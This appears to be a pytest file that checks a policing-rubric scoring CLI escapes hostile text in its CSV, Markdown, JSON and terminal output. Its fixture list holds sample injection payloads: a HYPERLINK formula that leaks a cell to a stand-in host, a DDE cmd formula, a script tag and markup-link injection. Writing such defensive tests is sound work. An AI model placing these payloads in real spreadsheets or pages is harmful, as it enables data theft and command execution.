"""Hostile text in planners' files breaks no CSV cell and no Markdown table of `score`.

Profile names, Chinese names, evidence and the rubric's and dimensions' names are set to
formulas (``=HYPERLINK(...)``, ``+1``, ``-1+2``, ``@SUM(...)``), markup (``<script>``), pipes
and newlines. Through the CLI, in English and Chinese:

* CSV parses back with the csv module into rows as wide as the header; a cell a spreadsheet
  would run as a formula starts with an apostrophe, and is otherwise the text unchanged;
* every Markdown table row has as many cells as its header (pipes escaped, newlines folded),
  no raw ``<script>`` survives, and no hostile text starts a table row of its own.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner

from policebench.cli.app import app
from policebench.workspace import bundled

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1",
    "-1+2",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "a | b || c",
    "line one\nline two\nline three",
    "back\\slash | \\| pipe",
    '"quoted", with, commas',
    "\u202eevil\u202c right-to-left",
    "[/bold][link=http://evil.example]rich markup[/link]",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def workdir(in_tmp: Path) -> Path:
    """./cities with one profile per hostile text, ./rubrics with a hostile rubric."""
    base = yaml.safe_load((bundled("cities") / "j-city.yaml").read_text(encoding="utf-8"))
    cities = in_tmp / "cities"
    cities.mkdir()
    for n, text in enumerate(HOSTILE):
        profile = dict(base, id=f"hostile-{n}", name=text, name_zh=text)
        entry = dict(profile["indicators"]["top-level-design"], evidence=text, evidence_zh=text)
        profile["indicators"] = dict(profile["indicators"], **{"top-level-design": entry})
        (cities / f"hostile-{n}.yaml").write_text(
            yaml.safe_dump(profile, allow_unicode=True), encoding="utf-8"
        )
    rubric = yaml.safe_load((bundled("rubrics") / "smart-policing.yaml").read_bytes())
    rubric["name"] = rubric["name_zh"] = "=cmd|' /C calc'!A0 <script>x</script>"
    for dim, text in zip(rubric["dimensions"], HOSTILE, strict=False):
        dim["name"] = dim["name_zh"] = text
    (in_tmp / "rubrics").mkdir()
    (in_tmp / "rubrics" / "hostile.yaml").write_text(
        yaml.safe_dump(rubric, allow_unicode=True), encoding="utf-8"
    )
    return in_tmp


def score(runner: CliRunner, *args: str) -> str:
    result = runner.invoke(app, ["score", *args])
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert result.exit_code == 0, result.stderr
    return result.stdout


def expected_cell(text: str) -> str:
    """What a CSV cell holding ``text`` must read: the text, defused when it is a formula."""
    return "'" + text if text.startswith(FORMULA_START) else text


def md_cells(row: str) -> list[str]:
    """The cells of a Markdown table row, splitting at pipes that are not backslash-escaped."""
    cells, current, escaped = [], "", False
    for char in row.strip()[1:-1]:
        if escaped:
            current += char
            escaped = False
        elif char == "\\":
            current += char
            escaped = True
        elif char == "|":
            cells.append(current)
            current = ""
        else:
            current += char
    return [*cells, current]


@pytest.mark.usefixtures("workdir")
@pytest.mark.parametrize("lang", ["en", "zh"])
def test_csv_cells_hold_and_defuse_the_text(runner: CliRunner, lang: str) -> None:
    out = score(runner, "--format", "csv", "--lang", lang)
    assert out.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(out[1:], newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == len(HOSTILE)
    assert all(len(row) == len(header) for row in body)
    names = {row[header.index("id")]: row[header.index("name")] for row in body}
    for n, text in enumerate(HOSTILE):
        assert names[f"hostile-{n}"] == expected_cell(text.strip())
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell


def _tables(markdown: str) -> list[list[str]]:
    """The Markdown tables of ``markdown``: runs of lines that start with '|'."""
    tables: list[list[str]] = []
    current: list[str] = []
    for line in markdown.split("\n"):
        if line.startswith("|"):
            current.append(line)
        elif current:
            tables.append(current)
            current = []
    return [*tables, current] if current else tables


@pytest.mark.usefixtures("workdir")
@pytest.mark.parametrize("lang", ["en", "zh"])
@pytest.mark.parametrize("one", [False, True], ids=["ranking", "one-place"])
def test_markdown_tables_keep_their_shape(runner: CliRunner, lang: str, one: bool) -> None:
    args = ["hostile-7"] if one else []  # one place adds its indicator table
    out = score(runner, *args, "--format", "markdown", "--lang", lang)
    tables = _tables(out)
    assert len(tables) == (2 if one else 1)
    ranking = tables[0]
    assert len(ranking) == 2 + (1 if one else len(HOSTILE))  # header, rule, one row each
    for table in tables:
        width = len(md_cells(table[0]))
        assert all(len(md_cells(row)) == width for row in table), table
        assert "<script>" not in "\n".join(table)


@pytest.mark.usefixtures("workdir")
def test_markdown_title_lines_are_inert(runner: CliRunner) -> None:
    out = score(runner, "--format", "markdown")
    assert "<script>" not in out


@pytest.mark.usefixtures("workdir")
def test_json_carries_the_text_as_data(runner: CliRunner) -> None:
    data: dict[str, Any] = json.loads(score(runner, "--format", "json"))
    names = {c["id"]: c["name"] for c in data["places"]}
    assert names == {f"hostile-{n}": text.strip() for n, text in enumerate(HOSTILE)}


@pytest.mark.usefixtures("workdir")
def test_the_terminal_table_shows_markup_as_typed(runner: CliRunner) -> None:
    table = score(runner, "hostile-11")
    assert "[link=http://evil.example]rich" in table


def test_the_fixture_is_really_hostile(runner: CliRunner, workdir: Path) -> None:
    """The profiles validate (so the tests above see them all, not an error)."""
    result = runner.invoke(app, ["validate", "cities", "rubrics", "-q"])
    assert result.exit_code == 0, result.stderr
    shutil.rmtree(workdir / "rubrics")
